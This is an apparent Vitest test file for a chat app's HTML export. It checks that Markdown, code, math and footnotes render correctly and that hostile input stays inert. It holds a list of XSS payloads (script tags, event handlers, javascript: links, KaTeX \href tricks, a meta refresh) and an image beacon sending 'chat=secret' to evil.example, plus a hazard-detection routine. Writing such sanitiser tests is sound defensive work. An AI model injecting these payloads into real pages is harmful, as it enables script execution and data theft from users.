// @vitest-environment jsdom
/**
 * The HTML export renders a reply's Markdown (code, tables, math, footnotes) and stays inert: for
 * hostile text in every field, the page holds no script, no event handler, no element a Markdown
 * renderer does not make, no link off http(s)/mailto/#, no image but the export's own data: URLs.
 */
import { describe, expect, it } from "vitest";
import type { Block, Entry } from "../session/entries";
import { a, blobId, linkPath, SESSION, text, thinking, u } from "../testing/entries";
import type { ExportedSession } from "./grove-json";
import { exportHtml } from "./html";
import { markdownToHtml } from "./html-markdown";

const parse = (html: string): Document => new DOMParser().parseFromString(html, "text/html");

function session(entries: Entry[], blobs: ExportedSession["blobs"] = []): ExportedSession {
  const leaf = entries.at(-1)?.id ?? null;
  return {
    session: { id: SESSION, title: "T", titleSource: "user", createdAt: 0, updatedAt: 0, leafId: leaf },
    entries,
    labels: {},
    blobs,
  };
}

const REPLY = [
  "## Plan",
  "",
  "| Day | Hike | km |",
  "|---|---|---:|",
  "| Sat | Catbells | 6 |",
  "",
  "```python",
  "def total(km: list[int]) -> int:",
  "    return sum(km)  # all of them",
  "```",
  "",
  "Energy is $E = mc^2$, and",
  "",
  "$$",
  "\\int_0^1 x^2\\,dx = \\frac{1}{3}",
  "$$",
  "",
  "```mermaid",
  "graph TD; Keswick-->Catbells",
  "```",
  "",
  "Source[^1].",
  "",
  "[^1]: [Wainwright](https://example.org/wainwright) — guide",
].join("\n");

describe("a reply's Markdown in the HTML export", () => {
  const doc = parse(exportHtml(session(linkPath([u("u1", "Plan a hike"), a("a1", REPLY)])), { now: 0 }));
  const reply = doc.querySelector("article.assistant .markdown");

  it("renders headings and tables", () => {
    expect(reply?.querySelector("h2")?.textContent).toBe("Plan");
    expect([...(reply?.querySelectorAll("table th") ?? [])].map((th) => th.textContent)).toEqual(["Day", "Hike", "km"]);
    expect(reply?.querySelector("table td:last-child")?.textContent).toBe("6");
  });

  it("renders code in <pre> with its language, coloured by highlight.js classes", () => {
    const pre = reply?.querySelector("pre[data-language=python]");
    expect(pre?.querySelector("code")?.className).toBe("hljs language-python");
    expect(pre?.querySelector("code")?.textContent).toBe(
      "def total(km: list[int]) -> int:\n    return sum(km)  # all of them\n",
    );
    expect(pre?.querySelector(".hljs-keyword")?.textContent).toBe("def");
    expect(pre?.querySelector(".hljs-comment")?.textContent).toBe("# all of them");
  });

  it("renders math as MathML (inline and display) with its TeX kept as the annotation", () => {
    const maths = [...(reply?.querySelectorAll("math") ?? [])];
    expect(maths.map((m) => m.getAttribute("display"))).toEqual([null, "block"]);
    expect(maths[0]?.querySelector("annotation")?.textContent).toBe("E = mc^2");
    expect(maths[1]?.querySelector("mfrac")).not.toBeNull();
  });

  it("shows a Mermaid diagram's source as a code block", () => {
    expect(reply?.querySelector("pre[data-language=mermaid] code")?.textContent).toBe("graph TD; Keswick-->Catbells\n");
  });

  it("renders footnotes with ids of their own message, the source a link", () => {
    const ref = reply?.querySelector("sup a");
    expect(ref?.getAttribute("href")).toBe("#m2-0-fn-1");
    expect(reply?.querySelector("#m2-0-fn-1 a")?.getAttribute("href")).toBe("https://example.org/wainwright");
  });

  it("folds thinking under its label, and shows what the user typed as typed", () => {
    const d = parse(
      exportHtml(
        session(
          linkPath([
            u("u1", "# not a heading"),
            a("a1", [thinking("hmm *raw*", { label: "Thought for 16s" }), text("ok")]),
          ]),
        ),
        {
          now: 0,
        },
      ),
    );
    const details = d.querySelector("details.thinking");
    expect(details?.hasAttribute("open")).toBe(false);
    expect(details?.querySelector("summary")?.textContent).toBe("Thinking Thought for 16s");
    expect(details?.querySelector(".text")?.textContent).toBe("hmm *raw*");
    expect(d.querySelector("article.user .text")?.textContent).toBe("# not a heading");
    expect(d.querySelector("article.user h1")).toBeNull();
  });

  it("renders plain prose without the parser, the same way", () => {
    expect(markdownToHtml('One line\nnext line.\n\nSecond "para".', "x")).toBe(
      "<p>One line\nnext line.</p>\n<p>Second &quot;para&quot;.</p>",
    );
  });
});

/** Tags the export itself writes around and inside messages; MathML's are KaTeX's. */
const PAGE_TAGS = new Set(
  (
    "html head meta title style body div main header footer h1 h2 h3 h4 h5 h6 p span a em strong code pre blockquote " +
    "ul ol li hr br table thead tbody tr th td del input details summary article section sup figure figcaption img " +
    "math semantics mrow mi mn mo ms mtext mspace msup msub msubsup mfrac msqrt mroot mover munder munderover mtable mtr mtd mstyle mpadded menclose annotation mphantom"
  ).split(" "),
);
const URL_ATTRIBUTES = ["href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster", "background"];

/** Every way the page could run script, load something, or link off the allowed schemes; [] when none. */
function hazards(doc: Document): string[] {
  const found: string[] = [];
  for (const el of doc.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    if (!PAGE_TAGS.has(tag)) found.push(`<${tag}>`);
    if (tag === "input" && el.getAttribute("type") !== "checkbox") found.push("<input> not a task checkbox");
    if (tag === "meta" && el.parentElement?.tagName !== "HEAD") found.push("<meta> in the body");
    if (tag === "style" && el.parentElement?.tagName !== "HEAD") found.push("<style> in the body");
    for (const attr of el.getAttributeNames()) {
      if (attr.toLowerCase().startsWith("on")) found.push(`${tag}[${attr}]`);
      if (attr === "style") found.push(`${tag}[style]`);
    }
    for (const attr of URL_ATTRIBUTES) {
      const value = el.getAttribute(attr);
      if (value === null) continue;
      const ownData = (tag === "img" || (tag === "a" && el.hasAttribute("download"))) && value.startsWith("data:");
      if (!ownData && !/^(https?:\/\/|mailto:|#)/i.test(value.trim())) found.push(`${tag}[${attr}=${value}]`);
    }
  }
  if (doc.querySelectorAll("head > meta").length !== 4) found.push("a <meta> was added to <head>");
  return found;
}

/** Hostile text aimed at the Markdown renderer, KaTeX, highlight.js and the page around them. */
const HOSTILE: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<svg onload=alert(1)>",
  "<style>body{background:url(https://evil.example/x)}</style>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "<a href=javascript:alert(1)>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](  java\tscript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.example/p)",
  "[x](../../etc/passwd)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "![beacon](https://evil.example/p.png?chat=secret)",
  "<https://evil.example/x>",
  "<javascript:alert(1)>",
  '```"><script>alert(1)</script>\ncode\n```',
  "```js onload=alert(1)\nx\n```",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\url{javascript:alert(1)}$",
  "$$\\htmlClass{x}{y}\\htmlId{a}{b}\\htmlStyle{color:red}{z}\\htmlData{foo=1}{w}$$",
  "$\\unsupported{<img src=x onerror=alert(1)>}$",
  "```math\n\\href{javascript:alert(1)}{x}\n```",
  "Note[^x]\n\n[^x]: [n](javascript:alert(1)) <img src=x onerror=alert(1)>",
  "| a |\n|---|\n| <script>alert(1)</script> [x](javascript:1) |",
  "- [ ] task <img src=x onerror=alert(1)>",
  "*<b onclick=alert(1)>x</b>*",
  '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  "<!-- --><script>alert(1)</script>",
  "<form action=https://evil.example><input name=q></form>",
];

describe("the HTML export stays inert against hostile content in every field", () => {
  const fields: [string, (h: string) => { entries: Entry[]; blobs?: ExportedSession["blobs"] }][] = [
    ["a reply's Markdown", (h) => ({ entries: linkPath([u("u1", "q"), a("a1", h)]) })],
    ["what the user typed", (h) => ({ entries: linkPath([u("u1", h)]) })],
    [
      "thinking and its label",
      (h) => ({ entries: linkPath([u("u1", "q"), a("a1", [thinking(h, { label: h }), text("ok")])]) }),
    ],
    [
      "a text file's name and text",
      (h) => ({
        entries: linkPath([u("u1", [text("see"), { type: "text_file", name: h, mimeType: "text/plain", text: h }])]),
      }),
    ],
    [
      "an image's and a PDF's names",
      (h) => {
        const content: Block[] = [
          { type: "image", blobId: blobId("i"), mimeType: "image/png", name: h },
          { type: "document", blobId: blobId("d"), mimeType: "application/pdf", name: h, size: 1 },
        ];
        return {
          entries: linkPath([u("u1", content)]),
          blobs: [
            { id: blobId("i"), mimeType: "image/png", data: "iVBORw0KGgo=" },
            { id: blobId("d"), mimeType: "application/pdf", data: "JVBERi0=" },
          ],
        };
      },
    ],
    [
      "a tool call and result",
      (h) => ({
        entries: linkPath([
          a("a1", [
            { type: "tool_call", id: h, name: h, args: { h } },
            { type: "tool_result", callId: h, toolName: h, text: h, isError: true },
          ]),
        ]),
      }),
    ],
    ["a model name", (h) => ({ entries: linkPath([u("u1", "q"), a("a1", "ok", { model: h })]) })],
  ];

  for (const [field, build] of fields) {
    it(`hostile ${field}: nothing live`, () => {
      for (const h of HOSTILE) {
        const { entries, blobs } = build(h);
        const doc = parse(exportHtml(session(entries, blobs), { now: 0 }));
        const found = hazards(doc);
        if (found.length > 0) expect.fail(`${found.join(", ")}\n--- input ---\n${h}`);
      }
    });
  }

  it("a reply's links keep only http(s) and mailto targets, and open apart", () => {
    const html = markdownToHtml(
      "[a](https://ok.example/) [b](mailto:x@y.example) [c](javascript:alert(1)) [d](/rel)",
      "m",
    );
    const links = [...parse(html).querySelectorAll("a")];
    expect(links.map((l) => l.getAttribute("href"))).toEqual(["https://ok.example/", "mailto:x@y.example", null, null]);
    expect(links[0]?.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("an image in a reply becomes a link to it, never an <img>", () => {
    const doc = parse(markdownToHtml("![chart](https://evil.example/p.png?chat=secret)", "m"));
    expect(doc.querySelector("img")).toBeNull();
    expect(doc.querySelector("a")?.textContent).toBe("chart");
  });

  it("raw HTML in a reply is shown as its text", () => {
    const doc = parse(markdownToHtml("Hi <b onclick=alert(1)>there</b>\n\n<script>alert(1)</script>", "m"));
    expect(doc.querySelector("b, script")).toBeNull();
    expect(doc.body.textContent).toContain("<script>alert(1)</script>");
  });
});
